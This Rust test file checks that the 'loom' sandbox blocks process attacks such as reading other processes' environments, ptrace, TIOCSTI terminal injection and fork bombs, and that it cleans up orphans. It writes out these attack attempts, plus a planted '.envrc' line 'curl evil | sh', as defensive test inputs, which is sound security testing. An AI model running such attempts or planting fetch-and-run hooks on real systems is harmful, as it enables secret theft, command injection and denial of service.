//! Process attacks: other processes' /proc, ptrace and signals, io_uring, TIOCSTI, orphans, fork bombs.

use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::{host_procs_with, is_root, marker, need_sandbox, tier_available, verdicts, Sbx};

/// A host process with a secret in its environment and a marker on its command line, killed on drop.
struct HostVictim(Child);

impl HostVictim {
    fn start(mark: &str) -> HostVictim {
        let child = Command::new("/bin/sh")
            .args(["-c", "sleep 60", mark])
            .env("VICTIM_SECRET", "victim-env-secret")
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        HostVictim(child)
    }
    fn pid(&self) -> u32 {
        self.0.id()
    }
    fn alive(&mut self) -> bool {
        self.0.try_wait().unwrap().is_none()
    }
}

impl Drop for HostVictim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn host_processes_are_invisible_and_untouchable() {
    need_sandbox!();
    let s = Sbx::new();
    let mut victim = HostVictim::start(&marker("victim"));
    let pid = victim.pid();
    let code = format!(
        r#"
PTRACE_ATTACH = 16
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(8)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
remote = iovec(0x400000, 8)
attempt("proc_environ", lambda: open("/proc/{pid}/environ").read())
attempt("proc_cmdline", lambda: open("/proc/{pid}/cmdline").read())
attempt("kill", lambda: os.kill({pid}, 9))
attempt("ptrace_attach", lambda: libc.ptrace(PTRACE_ATTACH, {pid}, 0, 0))
attempt("process_vm_readv", lambda: libc.process_vm_readv({pid}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
attempt("kill_init", lambda: os.kill(1, 9))
attempt("control_proc_self", lambda: open("/proc/self/cmdline").read())
child = os.fork()
if child == 0:
    time.sleep(30); os._exit(0)
attempt("control_kill_own_child", lambda: os.kill(child, 9))
os.waitpid(child, 0)
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("visible_pids", len(pids))
"#
    );
    let r = s.py(&s.grant(), &[], &code);
    r.expect_code(0);
    verdicts(
        &r,
        &[
            "proc_environ",
            "proc_cmdline",
            "kill",
            "ptrace_attach",
            "process_vm_readv",
        ],
        &["control_proc_self", "control_kill_own_child"],
    );
    r.stdout_lacks("victim-env-secret");
    assert!(
        victim.alive(),
        "the host process was killed from inside the sandbox"
    );
    let visible: usize = r
        .stdout()
        .lines()
        .find_map(|l| l.strip_prefix("visible_pids "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap();
    assert!(visible <= 4, "the sandbox sees {visible} processes");
}

#[test]
fn io_uring_and_terminal_injection_are_denied() {
    need_sandbox!();
    let s = Sbx::new();
    let code = r#"
import fcntl, termios
params = ctypes.create_string_buffer(120)
SYS_io_uring_setup = 425
attempt("io_uring_setup", lambda: libc.syscall(SYS_io_uring_setup, 8, params))
attempt("tiocsti", lambda: fcntl.ioctl(0, termios.TIOCSTI, b"x"))
attempt("tiocsti_high_bits", lambda: libc.syscall(16, 0, ctypes.c_ulong(0x100000000 | termios.TIOCSTI), ctypes.c_char_p(b"x")))
attempt("tioclinux", lambda: libc.syscall(16, 0, ctypes.c_ulong(0x541C), ctypes.c_char_p(b"\x02")))
attempt("control_getpid", lambda: libc.syscall(39))
"#;
    let r = s.py(&s.grant(), &[], code);
    r.expect_code(0);
    r.stdout_has("io_uring_setup: BLOCKED EPERM")
        .stdout_has("tiocsti: BLOCKED EPERM")
        .stdout_has("tiocsti_high_bits: BLOCKED EPERM")
        .stdout_has("tioclinux: BLOCKED EPERM");
    verdicts(&r, &[], &["control_getpid"]);
    // Control: an ordinary ioctl is not denied by the filter (it fails on a non-terminal with ENOTTY, not EPERM).
    let r = s.py(
        &s.grant(),
        &[],
        "import fcntl, termios\nattempt('tiocgwinsz', lambda: fcntl.ioctl(os.open('notes.txt', os.O_RDONLY), termios.TIOCGWINSZ, b'12345678'))",
    );
    r.stdout_has("tiocgwinsz: BLOCKED ENOTTY");
}

fn spawn_loom(s: &Sbx, extra: &[&str], argv: &[&str]) -> Child {
    sandbox_run(&mut Command::new(crate::loom()), s, extra, argv)
}

/// `cmd` (loom, or a program that runs it) given `sandbox run --grant G --cwd work [extra] -- argv...`, a clean
/// environment and piped output, started.
fn sandbox_run(cmd: &mut Command, s: &Sbx, extra: &[&str], argv: &[&str]) -> Child {
    sandbox_run_granted(cmd, s, &s.grant(), extra, argv)
}

/// [`sandbox_run`] with another grant.
fn sandbox_run_granted(
    cmd: &mut Command,
    s: &Sbx,
    grant: &str,
    extra: &[&str],
    argv: &[&str],
) -> Child {
    cmd.args(["sandbox", "run", "--grant", grant, "--cwd"])
        .arg(&s.work)
        .args(extra)
        .arg("--")
        .args(argv)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &s.home)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn wait_for(mut f: impl FnMut() -> bool, limit: Duration) -> bool {
    let start = Instant::now();
    while start.elapsed() < limit {
        if f() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    f()
}

#[test]
fn orphans_do_not_outlive_the_sandbox() {
    need_sandbox!();
    let s = Sbx::new();
    let mark = marker("orphan");
    let (h, t) = mark.split_at(mark.len() / 2);
    // The command starts a detached grandchild (new session, double fork) and exits after a moment.
    let code = format!(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 120; :', '{h}' + '{t}'])\n    os._exit(0)\ntime.sleep(1.5)\n"
    );
    let mut loom = spawn_loom(&s, &[], &["python3", "-c", &code]);
    // Control: while the sandbox runs, the host sees the orphan (so the check below can see it too).
    assert!(
        wait_for(
            || !host_procs_with(&mark).is_empty(),
            Duration::from_secs(5)
        ),
        "the orphan never appeared on the host"
    );
    let status = loom.wait().unwrap();
    assert!(status.success(), "{status:?}");
    assert!(
        wait_for(|| host_procs_with(&mark).is_empty(), Duration::from_secs(3)),
        "orphan outlived the sandbox: {:?}",
        host_procs_with(&mark)
    );
}

#[test]
fn a_timeout_kills_the_whole_tree() {
    need_sandbox!();
    let s = Sbx::new();
    let mark = marker("timeout");
    let (h, t) = mark.split_at(mark.len() / 2);
    // The marker is assembled inside the sandbox, so only the sandboxed process carries it (not loom's own argv).
    let script = format!("M={h}; sh -c 'sleep 120; :' \"${{M}}{t}\" & sleep 120");
    let start = Instant::now();
    let mut loom = spawn_loom(&s, &["--timeout-ms", "4000"], &["sh", "-c", &script]);
    assert!(wait_for(
        || !host_procs_with(&mark).is_empty(),
        Duration::from_secs(5)
    ));
    let out = {
        let status = loom.wait().unwrap();
        let mut err = String::new();
        use std::io::Read;
        loom.stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        (status, err)
    };
    assert!(start.elapsed() < Duration::from_secs(15));
    assert_eq!(out.0.code(), Some(137), "{}", out.1);
    assert!(out.1.contains("timed out"), "{}", out.1);
    assert!(
        wait_for(|| host_procs_with(&mark).is_empty(), Duration::from_secs(3)),
        "processes survived the timeout"
    );
}

#[test]
fn a_fork_bomb_is_bounded() {
    need_sandbox!();
    let s = Sbx::new();
    let mark = marker("bomb");
    let (h, t) = mark.split_at(mark.len() / 2);
    // Control: the limit is applied.
    s.run(
        &s.grant(),
        &["--max-procs", "40", "--max-file-size", "4096"],
        &[
            "python3",
            "-c",
            "import resource as r; print(r.getrlimit(r.RLIMIT_NPROC), r.getrlimit(r.RLIMIT_FSIZE))",
        ],
    )
    .expect_code(0)
    .stdout_has("(40, 40) (4096, 4096)");
    if is_root() {
        eprintln!(
            "NOTE: running as uid 0, which the kernel exempts from RLIMIT_NPROC; checking that the timeout and the \
             pid namespace reap a bounded bomb instead (the unprivileged run checks the rlimit itself)"
        );
        let code = format!(
            "import os, time\nfor i in range(150):\n    if os.fork() == 0:\n        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 120; :', '{h}' + '{t}'])\ntime.sleep(120)\n"
        );
        let r = s.run(
            &s.grant(),
            &["--timeout-ms", "3000"],
            &["python3", "-c", &code],
        );
        r.expect_code(137);
        assert!(
            wait_for(|| host_procs_with(&mark).is_empty(), Duration::from_secs(5)),
            "bomb processes survived"
        );
        return;
    }
    let code = r#"
import os, errno
n = 0
try:
    for i in range(10000):
        if os.fork() == 0:
            import time; time.sleep(5); os._exit(0)
        n += 1
    print("UNBOUNDED", n)
except OSError as e:
    print("LIMITED", errno.errorcode[e.errno], n)
"#;
    let r = s.run(
        &s.grant(),
        &["--max-procs", "64", "--timeout-ms", "20000"],
        &["python3", "-c", code],
    );
    r.stdout_has("LIMITED EAGAIN").stdout_lacks("UNBOUNDED");
}

#[test]
fn cancelling_loom_kills_the_whole_tree() {
    need_sandbox!();
    let s = Sbx::new();
    for grant in [s.grant(), r#""*""#.to_string()] {
        let mark = marker("cancel");
        let (h, t) = mark.split_at(mark.len() / 2);
        let script = format!("M={h}; sh -c 'sleep 120; :' \"${{M}}{t}\" & sleep 120");
        let mut loom = Command::new(crate::loom())
            .args(["sandbox", "run", "--grant", &grant, "--cwd"])
            .arg(&s.work)
            .args(["--", "sh", "-c", &script])
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        assert!(wait_for(
            || !host_procs_with(&mark).is_empty(),
            Duration::from_secs(5)
        ));
        let sent = Command::new("kill")
            .args(["-INT", &loom.id().to_string()])
            .status()
            .unwrap();
        assert!(sent.success());
        let status = loom.wait().unwrap();
        assert_eq!(status.code(), Some(130), "grant {grant}: {status:?}");
        assert!(
            wait_for(|| host_procs_with(&mark).is_empty(), Duration::from_secs(3)),
            "grant {grant}: processes survived the cancel: {:?}",
            host_procs_with(&mark)
        );
    }
}

/// Host processes in session `sid`, but for zombies (dead, holding nothing, waiting for their new parent — pid 1 —
/// to reap them).
fn session_members(sid: u32) -> Vec<u32> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        // field 6 of stat, counted after the command name's closing parenthesis
        let Ok(stat) = std::fs::read_to_string(e.path().join("stat")) else {
            continue;
        };
        let after = stat.rsplit_once(')').map(|(_, rest)| rest).unwrap_or("");
        let fields: Vec<&str> = after.split_whitespace().collect();
        if fields.first() != Some(&"Z") && fields.get(3) == Some(&sid.to_string().as_str()) {
            out.push(pid);
        }
    }
    out
}

/// `loom sandbox run [extra] -- sh -c script` in a session of its own (its pid is the session's id), so whatever it
/// starts can be found by session until bubblewrap's `--new-session`.
fn spawn_loom_in_session(s: &Sbx, extra: &[&str], script: &str) -> Child {
    let mut setsid = Command::new("setsid");
    setsid.arg(crate::loom());
    sandbox_run(&mut setsid, s, extra, &["sh", "-c", script])
}

/// A command marked `<mark>-cmd` that started `<mark>-child` in the background, both sleeping; the marks are
/// assembled inside the sandbox, so loom's own command line does not carry them.
fn marked_command_and_child(mark: &str) -> String {
    let (h, t) = mark.split_at(mark.len() / 2);
    format!(
        "M={h}; bash -c \"exec -a ${{M}}{t}-child sleep 120\" & exec bash -c \"exec -a ${{M}}{t}-cmd sleep 120\""
    )
}

/// All a finished loom wrote on its standard output (it returns only once nothing holds the stream open).
fn stdout_of(loom: &mut Child) -> String {
    let mut out = String::new();
    use std::io::Read;
    loom.stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    out
}

/// SIGKILL to loom's group, as a client kills its terminal's, and to loom itself in case `setsid` has not run yet
/// (then there is no group of that id, and kill says so for it); loom must have died of it.
fn kill_loom(loom: &mut Child) {
    let pid = loom.id();
    let _ = Command::new("kill")
        .args(["-KILL", "--", &format!("-{pid}"), &pid.to_string()])
        .stderr(Stdio::null())
        .status()
        .unwrap();
    let status = loom.wait().unwrap();
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(9),
        "{status:?}"
    );
}

/// loom killed at any moment — by a client that kills its terminal's process group, a CI timeout — leaves nothing
/// of the sandbox behind in any tier: not the trial's or the command's bubblewrap (tiers A and C), not the command,
/// not what the command started. The kills land at moments spread over loom's start, the trial, the sandbox's setup
/// and the command's run; the session catches what carries no mark. (The narrow moment inside bubblewrap's setup is
/// hit on purpose by the guard's own test, `sandbox/src/guard.rs`; tier B's guard has its own in
/// `sandbox/src/session_guard.rs`.)
#[test]
fn killing_loom_at_any_moment_leaves_nothing_behind() {
    need_sandbox!();
    let s = Sbx::new();
    for tier in ["a", "b", "c"] {
        if !tier_available(&s, tier) {
            continue;
        }
        for i in 0..12u64 {
            let mark = marker("killed");
            let mut loom =
                spawn_loom_in_session(&s, &["--tier", tier], &marked_command_and_child(&mark));
            let sid = loom.id();
            std::thread::sleep(Duration::from_millis(i * 10));
            kill_loom(&mut loom);
            assert!(
                wait_for(
                    || session_members(sid).is_empty() && host_procs_with(&mark).is_empty(),
                    Duration::from_secs(5)
                ),
                "tier {tier}, killed after {} ms, these outlived loom: session {:?}, command {:?}",
                i * 10,
                session_members(sid),
                host_procs_with(&mark)
            );
            // and nothing holds the streams loom was given
            stdout_of(&mut loom);
        }
    }
}

/// Tier B has no pid namespace to end: loom killed with SIGKILL — nothing to catch — while the command and what it
/// started in the background run takes both with it (the command by its parent-death signal, the rest by the
/// session's guard). Before the guard, the background child kept running, confined, until it ended.
#[test]
fn killing_loom_in_tier_b_takes_what_the_command_started_in_the_background() {
    need_sandbox!();
    let s = Sbx::new();
    if !tier_available(&s, "b") {
        return;
    }
    let mark = marker("tierb");
    let mut loom = spawn_loom_in_session(&s, &["--tier", "b"], &marked_command_and_child(&mark));
    let (cmd, child) = (format!("{mark}-cmd"), format!("{mark}-child"));
    assert!(
        wait_for(
            || !host_procs_with(&cmd).is_empty() && !host_procs_with(&child).is_empty(),
            Duration::from_secs(5)
        ),
        "the command and its child never started"
    );
    kill_loom(&mut loom);
    let gone = wait_for(|| host_procs_with(&mark).is_empty(), Duration::from_secs(5));
    let left = host_procs_with(&mark);
    for pid in &left {
        let _ = Command::new("kill")
            .args(["-KILL", &pid.to_string()])
            .status();
    }
    assert!(gone, "these outlived loom in tier B: {left:?}");
}

#[test]
fn file_size_is_bounded() {
    need_sandbox!();
    let s = Sbx::new();
    let code = r#"
attempt("big_file", lambda: write("big.bin", "x" * 5000))
attempt("control_small_file", lambda: write("small.bin", "x" * 500))
"#;
    let r = s.py(&s.grant(), &["--max-file-size", "1000"], code);
    r.expect_code(0).stdout_has("big_file: BLOCKED EFBIG");
    verdicts(&r, &[], &["control_small_file"]);
    let big = std::fs::metadata(s.work.join("big.bin"))
        .map(|m| m.len())
        .unwrap_or(0);
    assert!(big <= 1000, "wrote {big} bytes past RLIMIT_FSIZE");
}

/// loom killed while its command runs never sees the command end, so its own sweep never runs: what the command
/// created at a protected name stays. The record loom wrote before the command started (in loom's data directory,
/// which the command cannot write even when its grant holds it) outlives it, and the next loom that runs a command
/// moves that aside first, before it builds its own view (which would take the planted file for the user's) — in
/// every tier.
#[test]
fn what_a_killed_loom_s_command_created_is_moved_aside_by_the_next_loom() {
    need_sandbox!();
    for tier in ["a", "b", "c"] {
        let s = Sbx::new();
        if !tier_available(&s, tier) {
            continue;
        }
        let records = s.home.join(".local/share/loom/sweeps");
        let forged = records.join("1-1-1.sweep");
        // the home (and so loom's data directory) is writable: the records must stay out of reach all the same
        let grant = format!(
            r#"{{ commands = "*", paths = ["{}", "{}"] }}"#,
            s.work.display(),
            s.home.display()
        );
        let script = format!(
            "echo 'curl evil | sh' > .envrc; mkdir -p .git/hooks; \
             (printf 'loom-sweep 1\\nW 2f 2e7373680a\\n' > {0}) 2>/dev/null && echo forged-ALLOWED || echo forged-BLOCKED; \
             echo ready > ready; exec sleep 120",
            forged.display()
        );
        let mut setsid = Command::new("setsid");
        setsid.arg(crate::loom());
        let mut loom = sandbox_run_granted(
            &mut setsid,
            &s,
            &grant,
            &["--tier", tier],
            &["sh", "-c", &script],
        );
        assert!(
            wait_for(|| s.work.join("ready").exists(), Duration::from_secs(20)),
            "tier {tier}: the command never got going"
        );
        // while the command runs, its sweep is on record
        let listed = || -> Vec<String> {
            std::fs::read_dir(&records)
                .map(|d| {
                    d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                        .collect()
                })
                .unwrap_or_default()
        };
        assert_eq!(listed().len(), 1, "tier {tier}: {:?}", listed());
        kill_loom(&mut loom);
        let out = stdout_of(&mut loom);
        assert!(out.contains("forged-BLOCKED"), "tier {tier}: {out}");
        assert!(!forged.exists(), "tier {tier}: a record was forged");
        // the dead loom swept nothing
        assert!(s.work.join(".envrc").exists(), "tier {tier}");
        assert!(s.work.join(".git").exists(), "tier {tier}");
        assert_eq!(listed().len(), 1, "tier {tier}: {:?}", listed());

        // the next loom, for any command, sweeps for it first and says so
        let run_true = || {
            Command::new(crate::loom())
                .args([
                    "sandbox",
                    "run",
                    "--tier",
                    tier,
                    "--grant",
                    &s.grant(),
                    "--cwd",
                ])
                .arg(&s.work)
                .args(["--", "true"])
                .env_clear()
                .env("PATH", "/usr/bin:/bin")
                .env("HOME", &s.home)
                .output()
                .unwrap()
        };
        let next = run_true();
        let err = String::from_utf8_lossy(&next.stderr);
        assert!(next.status.success(), "tier {tier}: {err}");
        for (from, to) in [(".envrc", ".envrc.loom-moved"), (".git", ".git.loom-moved")] {
            assert!(
                s.work.join(from).symlink_metadata().is_err(),
                "tier {tier}: {from} is still there"
            );
            assert!(s.work.join(to).exists(), "tier {tier}: no {to}");
            assert!(
                err.contains(&format!(
                    "{} (a protected name that did not exist when the command started) was moved to {} — by a \
                     command whose loom ended before the command did",
                    s.work.join(from).display(),
                    s.work.join(to).display()
                )),
                "tier {tier}: {err}"
            );
        }
        assert_eq!(
            s.host_read(&s.work.join(".envrc.loom-moved")),
            "curl evil | sh\n"
        );
        assert!(listed().is_empty(), "tier {tier}: {:?}", listed());
        // swept once: a third loom finds nothing to say
        let third = run_true();
        let err = String::from_utf8_lossy(&third.stderr);
        assert!(
            third.status.success() && !err.contains("moved"),
            "tier {tier}: {err}"
        );
    }
}
